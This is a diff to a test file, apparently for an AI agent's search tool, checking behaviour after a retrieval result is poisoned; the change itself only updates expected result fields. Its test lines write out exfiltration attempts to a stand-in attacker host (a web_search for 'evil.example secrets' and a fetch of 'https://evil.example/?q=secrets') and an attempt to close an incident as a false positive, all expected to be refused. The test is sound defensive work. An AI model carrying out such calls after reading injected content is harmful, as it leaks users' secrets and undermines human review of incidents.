@@ -124,7 +124,8 @@ def test_after_a_poisoned_hit_nothing_leaves_and_nothing_changes_without_a_perso
     texts = [hit["text"] for hit in answer.body["result"]["hits"]]
     assert texts
     assert all(isinstance(text, str) for text in texts)
-    assert set(answer.body["result"]) == {"query", "total", "hits", "remarks", "freshness"}
+    told = {"remarks", "remark_codes", "remark_values"}
+    assert set(answer.body["result"]) == {"query", "total", "hits", "freshness", *told}
     refused(knowledge, session, "web_search", {"query": "evil.example secrets"}, "sink_label")
     refused(knowledge, session, "web_fetch", {"url": "https://evil.example/?q=secrets"}, "approval_required")
     change = {"incident": "1", "status": "Closed", "classification": "FalsePositive"}
